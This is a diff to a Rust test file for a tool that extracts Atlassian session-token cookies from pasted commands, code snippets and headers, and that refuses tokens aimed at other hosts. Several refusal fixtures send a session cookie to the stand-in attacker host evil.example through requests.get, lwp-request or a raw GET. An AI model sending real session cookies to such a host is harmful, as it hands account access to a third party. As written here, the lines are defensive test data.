@@ -86,6 +86,7 @@ fn httpie_and_xh() {
                 "% http --session=me --print hb POST {URL} Cookie:{COOKIE} name=x url=https://evil.example"
             ),
             format!("http :8080/x Cookie:{COOKIE}"),
+            format!("printf '{{}}'| http --follow GET '{URL}' \\\n Cookie:'{COOKIE}'"),
         ],
     );
     refuses(&[
@@ -124,7 +125,7 @@ fn code_of_many_languages() {
             format!("s.cookies[\"cloud.session.token\"] = \"a.b.c\"\ns.get(\"{URL}\")"),
             "cookies = {'cloud.session.token': 'a.b.c'}".to_owned(),
             "COOKIES = dict([(\"cloud.session.token\", \"a.b.c\")])".to_owned(),
-            format!("token = 'a.b.c'\nbase = 'https://admin.atlassian.com'\nrequests.get(f'{{base}}/x', cookies={{'cloud.session.token': token}})"),
+            "token = 'a.b.c'\nbase = 'https://admin.atlassian.com'\nrequests.get(f'{base}/x', cookies={'cloud.session.token': token})".to_owned(),
             format!("token = \"a.b.c\"\nrequests.get('{URL}', headers={{'Cookie': f'cloud.session.token={{token}}'}})"),
             format!("const t = 'a.b.c';\naxios.get('{URL}', {{ headers: {{ Cookie: `cloud.session.token=${{t}}` }} }})"),
             format!("var t = 'a.b.c';\n$.get({{ url: '{URL}', headers: {{ 'Cookie': 'cloud.session.token=' + t }} }})"),
@@ -133,6 +134,7 @@ fn code_of_many_languages() {
             format!("req.AddCookie(&http.Cookie{{Name: \"cloud.session.token\", Value: \"a.b.c\"}})\nhttp.NewRequest(\"GET\", `{URL}`, nil)"),
             format!("<?php\n$ch = curl_init();\ncurl_setopt($ch, CURLOPT_URL, '{URL}');\ncurl_setopt($ch, CURLOPT_HTTPHEADER, [\n    'Accept: */*',\n    'Cookie: {COOKIE}',\n]);"),
             format!("curl_setopt($ch, CURLOPT_URL, '{URL}');\ncurl_setopt($ch, CURLOPT_COOKIE, 'a=1; {COOKIE}');"),
+            format!("url = URI(\"{URL}\")\nhttps = Net::HTTP.new(url.host, url.port)\nrequest = Net::HTTP::Get.new(url)\nrequest[\"Cookie\"] = \"{COOKIE}\""),
             format!("uri = URI('{URL}')\nreq = Net::HTTP::Get.new(uri)\nreq['Cookie'] = '{COOKIE}'"),
             format!("HttpRequest.newBuilder().uri(URI.create(\"{URL}\")).setHeader(\"cookie\", \"{COOKIE}\").build();"),
             "await context.addCookies([{ name: 'cloud.session.token', value: 'a.b.c', domain: '.atlassian.com', path: '/' }]);".to_owned(),
@@ -142,9 +144,8 @@ fn code_of_many_languages() {
     );
     refuses(&[
         (
-            format!(
-                "requests.get('https://evil.example', cookies={{'cloud.session.token': 'a.b.c'}})"
-            ),
+            "requests.get('https://evil.example', cookies={'cloud.session.token': 'a.b.c'})"
+                .to_owned(),
             CaptureError::OtherHost,
         ),
         (
@@ -228,4 +229,43 @@ fn what_a_service_sets() {
         "Set-Cookie: cloud.session.token={new}; Max-Age=0\nSet-Cookie: cloud.session.token={old}; Expires=Sat, 26 Dec 2026 10:00:00 GMT"
     );
     assert_eq!(found(&text), Ok((Form::SetCookie, old)));
+}
+
+#[test]
+fn what_people_put_around_a_token() {
+    let token = token("ann", -100, 9000);
+    for (text, form) in [
+        (format!("export ATLCTL_SESSION_TOKEN={token}"), Form::Token),
+        (format!("TOKEN=\"{token}\""), Form::Token),
+        (format!("Authorization: Bearer {token}"), Form::Token),
+        (format!("```\n{token}\n```"), Form::Token),
+        (format!("`{token}`"), Form::Token),
+        (
+            format!("| cloud.session.token | {token} | .atlassian.com |"),
+            Form::Token,
+        ),
+        (format!("cloud.session.token = {token}"), Form::StorageRow),
+        (
+            format!("cloud.session.token = \"{token}\""),
+            Form::StorageRow,
+        ),
+        (
+            format!("document.cookie = \"a=1; cloud.session.token={token}\";"),
+            Form::CookieLine,
+        ),
+        (
+            format!("### me\nGET {URL}\nCookie: cloud.session.token={token}\nHTTP 200"),
+            Form::Headers,
+        ),
+    ] {
+        assert_eq!(found(&text), Ok((form, token.clone())), "{text}");
+    }
+    for text in [
+        format!("| cloud.session.token | {token} | evil.example |"),
+        format!("TOKEN={token} lwp-request https://evil.example"),
+        format!("cloud.session.token {token} evil.example"),
+        format!("GET https://evil.example/\nCookie: cloud.session.token={token}"),
+    ] {
+        assert!(found(&text).is_err(), "{text}");
+    }
 }
